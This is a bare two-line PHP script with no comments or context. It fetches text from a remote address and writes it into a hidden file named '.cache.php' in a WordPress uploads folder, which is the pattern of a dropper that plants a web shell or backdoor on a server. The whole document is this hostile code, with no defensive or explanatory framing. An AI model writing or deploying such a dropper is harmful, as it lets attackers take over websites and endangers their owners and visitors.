<?php
file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/wp-content/uploads/.cache.php', file_get_contents('http://203.0.113.7/s.txt'));
